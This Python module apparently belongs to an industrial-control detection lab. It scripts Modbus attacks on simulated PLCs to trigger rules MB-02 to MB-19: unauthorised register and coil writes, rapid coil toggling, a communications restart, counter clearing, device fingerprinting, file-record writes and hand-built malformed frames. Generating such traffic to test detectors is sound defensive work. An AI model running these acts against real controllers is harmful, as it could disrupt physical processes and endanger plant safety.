"""The Modbus detections that have no capture of their own, one act each, by pymodbus and, where no stack would do it, by hand.

Benign twin: hmi-water, hmi-press, historian and eng at their daily work on both controllers, in the lead-in of this very capture.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import time
from collections.abc import Callable

from pymodbus.client import ModbusTcpClient
from pymodbus.exceptions import ModbusException
from pymodbus.pdu.file_message import FileRecord

from ..plan import machine
from ..plant import modbus_client, plc_gateway, plc_water
from .base import Act, Attack, Text, text

UNIT = plc_water.UNIT
MEASURED, SET_POINT, LIMIT = 5, 100, 300


def _with(server: str, do: Callable[[ModbusTcpClient], object]) -> Callable[[], None]:
    def run() -> None:
        client = modbus_client.connect(server)
        do(client)
        client.close()

    return run


def _burst(client: ModbusTcpClient) -> None:
    for coil in range(16):
        client.write_coil(coil, True, device_id=UNIT)
    for register in range(SET_POINT, SET_POINT + 10):
        client.write_register(register, 7, device_id=UNIT)


def _toggle(client: ModbusTcpClient) -> None:
    for turn in range(12):
        client.write_coil(5, turn % 2 == 0, device_id=UNIT)
        time.sleep(0.3)


def _compete(client: ModbusTcpClient) -> None:
    for _ in range(10):
        client.write_register(SET_POINT, 700, device_id=UNIT)
        time.sleep(1.2)


def _identify(client: ModbusTcpClient) -> None:
    client.read_device_information(read_code=1, object_id=0, device_id=UNIT)
    client.report_device_id(device_id=UNIT)
    client.diag_get_comm_event_counter(device_id=UNIT)
    client.diag_read_diagnostic_register(device_id=UNIT)


def _exceptions(client: ModbusTcpClient) -> None:
    for _ in range(25):
        client.read_holding_registers(0, count=2, device_id=77)


def _files(client: ModbusTcpClient) -> None:
    record = {"file_number": 4, "record_number": 7}
    for ask in (
        lambda: client.read_file_record([FileRecord(**record, record_length=2)], device_id=UNIT),
        lambda: client.write_file_record([FileRecord(**record, record_data=b"\x06\xaf\x04\xbe")], device_id=UNIT),
    ):
        with contextlib.suppress(ModbusException):  # the server has no files, and pymodbus cannot read its refusal
            ask()


def _malformed() -> None:
    """What no stack sends: a foreign protocol id, quantities and values out of bounds, a byte count that lies."""
    pdus = ("0300000000", "0300000fff", "050002beef", "100064000204000100", "03fff00020")
    for pdu in pdus:
        with socket.create_connection((machine("plc-water").ip, 502), timeout=3) as raw:
            body = bytes.fromhex(pdu)
            raw.sendall(struct.pack(">HHHB", 7, 0, len(body) + 1, UNIT) + body)
            time.sleep(0.3)
    with socket.create_connection((machine("plc-water").ip, 502), timeout=3) as raw:
        body = bytes.fromhex("0300000002")
        for protocol in (0, 0x4142):
            raw.sendall(struct.pack(">HHHB", 8, protocol, len(body) + 1, UNIT) + body)
            time.sleep(0.3)


def _act(detection: str, name: str, actor: str, what: Text, run: Callable[[], None], server: str = "plc-water") -> Act:
    return Act(name, actor, server, what, "pymodbus", "modbus || tcp.port == 502", run, detection=detection)


ATTACK = Attack(
    "modbus",
    text("对 Modbus 控制器的多种攻击", "Attacks of many kinds on Modbus controllers"),
    (
        _act(
            "MB-02",
            "read",
            "mes",
            text("MES 首次读取水箱 PLC 的保持寄存器", "The MES reads the tank's holding registers for the first time"),
            _with("plc-water", lambda client: client.read_holding_registers(0, count=10, device_id=UNIT)),
        ),
        _act(
            "MB-07",
            "first-write",
            "hmi-water",
            text("操作员站改写此前只读的报警限值", "The operator station rewrites a register that was only ever read"),
            _with("plc-water", lambda client: client.write_register(MEASURED, 999, device_id=UNIT)),
        ),
        _act(
            "MB-08",
            "burst",
            "eng",
            text("工程师站几秒内写 26 个地址", "The engineering station writes 26 addresses within seconds"),
            _with("plc-water", _burst),
        ),
        _act(
            "MB-09",
            "toggle",
            "eng",
            text("工程师站反复切换同一线圈", "The engineering station switches one coil on and off again and again"),
            _with("plc-water", _toggle),
        ),
        _act(
            "MB-10",
            "compete",
            "historian",
            text("历史数据服务器与操作员站争写同一设定值", "The historian and the operator station write one set point in turn"),
            _with("plc-water", _compete),
        ),
        _act(
            "MB-12",
            "restart",
            "eng",
            text("工程师站重启通信(FC 08/0001,FF00)", "The engineering station restarts communications (FC 08/0001, FF00)"),
            _with("plc-water", lambda client: client.diag_restart_communication(True, device_id=UNIT)),
        ),
        _act(
            "MB-13",
            "clear",
            "eng",
            text("工程师站清除诊断计数器(FC 08/000A)", "The engineering station clears the counters (FC 08/000A)"),
            _with("plc-water", lambda client: client.diag_clear_counters(device_id=UNIT)),
        ),
        _act(
            "MB-14",
            "identify",
            "historian",
            text("历史数据服务器读取 PLC 标识和诊断", "The historian asks the PLC for its identity and diagnostics"),
            _with("plc-water", _identify),
        ),
        _act(
            "MB-16",
            "exceptions",
            "hmi-press",
            text("反复请求网关后不存在的设备(异常 0B)", "A device behind the gateway that is not there is asked again and again (0B)"),
            _with("plc-gateway", _exceptions),
            "plc-gateway",
        ),
        _act(
            "MB-17",
            "malformed",
            "historian",
            text("发送多种畸形 Modbus 报文", "Malformed Modbus messages of many kinds are sent"),
            _malformed,
        ),
        _act(
            "MB-19",
            "files",
            "eng",
            text("读写文件记录(FC 20/21)", "File records are read and written (FC 20/21)"),
            _with("plc-water", _files),
        ),
    ),
    also=("NET-06", "MB-01", "MB-02", "MB-03", "MB-04", "MB-07", "MB-08", "MB-10", "MB-14", "MB-15", "MB-16", "MB-18", "COR-02"),
)
